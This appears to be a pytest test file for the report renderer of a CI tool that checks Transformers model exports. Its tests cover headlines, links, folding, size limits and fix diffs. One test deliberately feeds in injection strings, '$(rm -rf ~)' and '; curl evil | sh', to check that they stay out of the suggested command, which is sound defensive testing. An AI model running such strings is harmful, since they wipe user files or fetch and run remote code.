"""What a report shows, how it stays short, and that nothing in it can pretend to be ours.

The verdicts here are made up to force one decision each. How whole reports read is in tests/golden, from real ones.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings

from support.markdown import see
from support.verdicts import verdicts
from transformers_export.report import render
from transformers_export.report.render import (
    COMMENT_LIMIT,
    MARKER,
    SUMMARY_LIMIT,
    Links,
    comment,
    comment_length,
    summary,
    unfinished,
    worth_a_comment,
)
from transformers_export.verdict.types import (
    Affected,
    CaseError,
    CaseResult,
    CheckResult,
    Finding,
    Fix,
    FixedFile,
    NotChecked,
    Tool,
    Verdict,
)

SERVER = "https://github.com"
LINKS = Links(SERVER, "acme/models", "b" * 40, f"{SERVER}/acme/models/actions/runs/42")
TAGS = {
    *("h3", "h4", "p", "strong", "ul", "li", "br", "a", "code", "pre", "sub", "details", "summary"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
PASSED = CaseResult("fox", "default", "onnx", "dynamo", "passed", max_difference=8.3e-7, tolerance=1e-5)
FAILED = replace(PASSED, feature="masked-lm", outcome="failed", cause="change")
NEW = Finding("unregistered", "error", "new", "src/fox.py", 12, 1, "Fox", "Fox has no entry.", "Add it.")


def verdict(*cases: CaseResult, findings: tuple[Finding, ...] = (), **more: object) -> Verdict:
    green = all(case.outcome in ("passed", "expected-failure") for case in cases) and not findings
    made = Verdict(Tool("transformers-export", "1"), "success" if green else "failure", cases=cases, findings=findings)
    return replace(made, **more)  # type: ignore[arg-type]


def headline(of: Verdict) -> str:
    return comment(of, LINKS).splitlines()[1]


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(verdicts())
def test_whatever_a_verdict_holds_the_report_is_ours(of: Verdict) -> None:
    for text, own_comments in ((comment(of, LINKS), [MARKER]), (summary(of, LINKS), [])):
        seen = see(text)
        assert set(seen.tags) <= TAGS
        assert seen.unbalanced == []
        assert [f"<!--{inner}-->" for inner in seen.comments] == own_comments
        assert all(link.startswith(f"{SERVER}/acme/models/") for link in seen.links)
        text.encode()


OWL_CHANGED = Affected("owl", "src/owl/modeling_owl.py", "its model changed")


@pytest.mark.parametrize(
    ("of", "expected"),
    [
        (verdict(PASSED, PASSED), "### ✅ 2 of 2 exports verified"),
        (verdict(PASSED, FAILED), "### ❌ 1 of 2 exports verified"),
        (verdict(FAILED), "### ❌ 0 of 1 export verified"),
        (verdict(PASSED, findings=(NEW,)), "### ❌ 1 of 1 export verified"),
        (verdict(findings=(NEW,)), "### ❌ No export verified"),
        (verdict(), "### ⚪ No export to verify"),
        (verdict(PASSED, replace(FAILED, outcome="expected-failure")), "### ✅ 1 of 2 exports verified"),
    ],
)
def test_the_headline(of: Verdict, expected: str) -> None:
    assert headline(of) == expected


@pytest.mark.parametrize("outcome", ["failed", "undecided", "expected-failure"])
def test_none_of_them_verified_is_never_green_even_when_the_verdict_says_so(outcome: str) -> None:
    lying = replace(verdict(replace(FAILED, outcome=outcome)), conclusion="success")  # type: ignore[arg-type]

    assert headline(lying).startswith("### ❌ 0 of 1")


def test_what_is_new_comes_right_after_the_headline() -> None:
    standing = replace(NEW, status="standing")
    text = comment(verdict(PASSED, FAILED, findings=(NEW, standing)), LINKS)

    assert text.splitlines()[3] == "**1 new error** · 1 failed · 1 standing finding"


def test_a_finding_links_to_its_line_at_the_head_commit() -> None:
    text = comment(verdict(findings=(NEW,)), LINKS)

    assert f"[`src/fox.py:12`]({SERVER}/acme/models/blob/{'b' * 40}/src/fox.py#L12)" in text


def test_a_fixed_finding_links_to_the_base_where_it_was() -> None:
    of = verdict(PASSED, findings=(replace(NEW, status="fixed"),), base="a" * 40)

    assert f"/blob/{'a' * 40}/src/fox.py#L12" in comment(of, LINKS)


def test_without_links_places_are_named_all_the_same() -> None:
    text = comment(verdict(FAILED, findings=(NEW,), base="a" * 40), None)

    assert "`src/fox.py:12`" in text
    assert see(text).links == []


def test_a_failure_is_folded_with_its_last_frame_first() -> None:
    error = CaseError("RuntimeError", "no kernel\nmore", ("fox.py:9 in forward", "run.py:1 in main"))
    text = comment(verdict(PASSED, replace(FAILED, error=error)), LINKS)

    assert "<code>fox / masked-lm / dynamo</code> RuntimeError: no kernel</summary>" in text
    assert "RuntimeError: no kernel\nmore\n  at fox.py:9 in forward\n  at run.py:1 in main\n" in text


def test_a_check_that_was_not_run_does_not_count_as_passed() -> None:
    checks = (
        CheckResult("checker", "passed"),
        CheckResult("values", "failed", 31.0, 1.0, "logits"),
        CheckResult("past", "not-run"),
    )
    text = comment(verdict(PASSED, replace(FAILED, checks=checks)), LINKS)

    assert "| 1/3 values |" in text
    assert "- `values` failed (31, at most 1 allowed): logits\n- `past` not run" in text


def test_rows_that_did_not_pass_come_first_and_many_verified_ones_are_folded() -> None:
    text = comment(verdict(*[PASSED] * 30, FAILED), LINKS)

    head, _, folded = text.partition("<summary>30 verified exports</summary>")
    assert head.count("| ❌ |") == 1
    assert head.count("| ✅ |") == 0
    assert folded.count("| ✅ |") == 30


def test_few_verified_exports_are_shown_at_once() -> None:
    assert "<summary>" not in comment(verdict(*[PASSED] * 25), LINKS).partition("Run it locally")[0].rpartition("|")[0]


def test_what_was_not_checked_says_why() -> None:
    of = verdict(
        PASSED, not_checked=(NotChecked("matrix", "the repository has none"), NotChecked("owl", "no case", True))
    )

    text = comment(of, LINKS)
    assert text.index("- ❌ `owl`: no case") < text.index("- `matrix`: the repository has none")


def test_why_a_model_was_checked() -> None:
    of = verdict(PASSED, affected=(Affected("fox", "src/base.py", "its base class changed"),))

    assert f"- `fox`: its base class changed ([`src/base.py`]({SERVER}/acme/models/blob/" in comment(of, LINKS)


def test_the_local_command_takes_nothing_unread_from_the_verdict() -> None:
    legacy = replace(PASSED, exporter="legacy")

    assert f"transformers-export check --base {'a' * 40} --exporter both\n" in comment(
        verdict(PASSED, legacy, base="a" * 40), LINKS
    )
    assert "transformers-export check --all --exporter" in comment(
        verdict(PASSED, base="a" * 40, head="a" * 40), LINKS
    ), "nothing was compared"
    hostile = verdict(replace(PASSED, exporter="$(rm -rf ~)"), base="; curl evil | sh")
    assert "\ntransformers-export check\n" in comment(hostile, LINKS)


def huge(rows: int, text: str) -> Verdict:
    error = CaseError("RuntimeError", text, (text,) * 40)
    checks = tuple(CheckResult(name, "failed", 3.0, 1.0, text) for name in ("names", "axes", "values"))
    return verdict(
        *(replace(FAILED, model_type=f"{text}{n}", error=error, checks=checks, warnings=(text,)) for n in range(rows)),
        findings=tuple(replace(NEW, path=f"src/{text}{n}.py", message=text, hint=text) for n in range(rows)),
        not_checked=tuple(NotChecked(text, text, True) for _ in range(rows)),
        affected=tuple(Affected(f"{text}{n}", text, text) for n in range(rows)),
        versions={f"{text}{n}": text for n in range(rows)},
        isolation=text,
        fix=Fix(tuple(FixedFile(text, text * 9) for _ in range(rows)), (text,) * rows, (text,) * rows),
        base="a" * 40,
        head="b" * 40,
    )


@pytest.mark.parametrize("rows", [1, 40, 400, 1500])
@pytest.mark.parametrize("text", ["short", "long " * 300, "`\u202e@|" * 400, "🤗" * 900])
def test_a_report_of_any_size_fits_and_is_whole(rows: int, text: str) -> None:
    of = huge(rows, text)

    short, long = comment(of, LINKS), summary(of, LINKS)

    assert comment_length(short) < COMMENT_LIMIT
    assert len(long.encode()) < SUMMARY_LIMIT
    for made in (short, long):
        seen = see(made)
        assert seen.unbalanced == []
        assert all(line.count("|") >= 10 for line in made.splitlines() if line.startswith("| ❌"))
    assert headline(of) == f"### ❌ 0 of {rows:,} export{'s' if rows > 1 else ''} verified"


def test_one_endless_name_fits_too() -> None:
    of = huge(3, "x" * 200_000)

    assert comment_length(comment(of, LINKS)) < COMMENT_LIMIT
    assert len(summary(of, LINKS).encode()) < SUMMARY_LIMIT


def test_what_is_left_out_is_counted_and_the_summary_has_it() -> None:
    text = comment(huge(1500, "word " * 60), LINKS)

    shown = text.count("| ❌ |")
    assert 0 < shown < 1500
    assert f"… and {1500 - shown:,} more exports: see the [job summary]({LINKS.run_url})." in text


def test_details_go_before_rows() -> None:
    text = comment(huge(60, "word " * 60), LINKS)

    assert text.count("| ❌ |") == 60
    assert "\n60 failures: see the [job summary]" in text


def test_a_length_is_counted_as_the_strictest_reader_would() -> None:
    assert comment_length("🤗\n") == 4


def fix_of(lines: int, files: int = 1) -> Fix:
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n" + "+line ```\n" * lines
    return Fix(tuple(FixedFile(f"x{n}", diff) for n in range(files)), ("Register X.",), ("Look at it.",))


def test_what_can_be_mended_is_shown_as_a_diff_to_apply() -> None:
    text = comment(verdict(findings=(NEW,), fix=fix_of(3), base="a" * 40), LINKS)

    assert "#### Fix\n\n- Register X.\n\n⚠️ Look at it.\n\n````diff\n--- a/x\n" in text
    assert f"`transformers-export check --static --fix --base {'a' * 40}`" in text
    assert "<summary>The diff" not in text
    assert "<summary>The diff</summary>" in comment(verdict(findings=(NEW,), fix=fix_of(200)), LINKS)
    assert "#### Fix" not in comment(verdict(findings=(NEW,)), LINKS)


def test_a_diff_is_shown_whole_or_not_at_all() -> None:
    some = comment(verdict(findings=(NEW,), fix=fix_of(700, files=5)), LINKS)
    none = comment(verdict(findings=(NEW,), fix=fix_of(10_000)), LINKS)

    assert some.count("--- a/x") == 2
    assert "also changes 3 files more" in some
    assert "--- a/x" not in none
    assert "The diff is too long to be shown here. Run `transformers-export check" in none
    assert "--- a/x" in summary(verdict(findings=(NEW,), fix=fix_of(10_000)), LINKS)


def test_an_unfinished_check_replaces_the_report_and_is_red() -> None:
    text = unfinished(f"It broke {MARKER} @octocat", LINKS)

    assert text.splitlines()[:2] == [MARKER, "### ❌ The check did not finish"]
    assert see(text).comments == [MARKER[4:-3]]
    assert LINKS.run_url in text


OWL_CHANGED = Affected("owl", "src/owl/modeling_owl.py", "its model changed")


@pytest.mark.parametrize(
    ("of", "expected"),
    [
        (verdict(), False),
        (verdict(not_checked=(NotChecked("matrix", "none"),)), False),
        (replace(verdict(findings=(replace(NEW, status="standing"),)), conclusion="success"), False),
        (verdict(PASSED), True),
        (verdict(findings=(NEW,)), True),
        (verdict(findings=(replace(NEW, status="fixed"),)), True),
        (verdict(not_checked=(NotChecked("owl", "no case", True),)), True),
        (verdict(not_checked=(NotChecked("settings", "they changed"),)), True),
        (replace(verdict(not_checked=(NotChecked("owl", "no features"),)), affected=(OWL_CHANGED,)), True),
    ],
)
def test_a_pull_request_that_does_not_concern_us_gets_no_comment(of: Verdict, expected: bool) -> None:
    assert worth_a_comment(of) is expected


def test_templates_of_the_checkout_are_the_ones_that_are_shipped() -> None:
    root = Path(__file__).parents[3]
    pyproject = (root / "pyproject.toml").read_text(encoding="utf-8")

    assert '"templates" = "transformers_export/templates"' in pyproject
    assert {file.name for file in (root / "templates").iterdir()} == {
        "comment.md.j2",
        "macros.md.j2",
        "summary.md.j2",
        "unfinished.md.j2",
    }
    assert all("safe" not in line for line in (root / "templates" / "comment.md.j2").read_text().splitlines())
    assert render.MARKER == "<!-- export-action: report -->"
